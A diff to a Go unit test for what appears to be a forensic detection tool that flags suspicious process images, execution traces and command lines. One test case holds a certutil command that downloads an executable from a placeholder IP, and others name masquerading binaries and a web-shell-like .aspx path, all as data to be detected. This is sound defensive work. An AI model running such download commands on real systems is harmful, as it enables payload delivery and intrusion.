@@ -81,6 +81,12 @@ func TestJudge(t *testing.T) {
 		{of(evidence.ObserveProcess, "Image", "/usr/bin/x (deleted)", "ProcessId", "7"), ProcessGone},
 		{of(evidence.ObserveProcess, "Image", `C:\ProgramData\lsass.exe`, "ProcessId", "7"), ProcessName},
 		{of(evidence.ObserveTrace, "Kind", evidence.TraceAmcache, "Image", `C:\Users\anna\svchost.exe`), TraceName},
+		{of(evidence.ObserveTrace, "Kind", evidence.TraceShimcache, "Image", `C:\Windows\TEMP\a.exe`), TraceTemp},
+		{of(evidence.ObserveTrace, "Kind", evidence.TraceRecycled, "Image", `C:\inetpub\wwwroot\k.aspx`), TraceTemp},
+		{of(evidence.ObserveTrace, "Kind", evidence.TraceRecycled, "Image", `C:\inetpub\wwwroot\logo.png`), ""},
+		{of(evidence.ObserveTrace, "Kind", evidence.TraceUserAssist, "Image", `C:\Users\Public\Desktop\Mozilla Firefox.lnk`), ""},
+		{of(evidence.ObserveTrace, "Kind", evidence.TraceShimcache, "Image", `C:\Windows\TEMP\{605A2280-1237-4AB3-9B33-3673E9E66D88}\MpSigStub.exe`), ""},
+		{of(evidence.ObserveTrace, "Kind", evidence.TraceShimcache, "Image", `C:\Users\anna\AppData\Local\Temp\7zS8E89D0D4\Installer.exe`), ""},
 		{of(evidence.ObserveTrace, "Kind", evidence.TraceHistory, "CommandLine", `certutil -urlcache -f http://192.0.2.9/a.exe a.exe`), TraceCommand},
 
 		{start(evidence.StartService, "Schedule", `%SystemRoot%\System32\svchost.exe -k netsvcs`, `C:\Windows\System32\svchost.exe`, "Details", `%systemroot%\system32\schedsvc.dll`), ""},
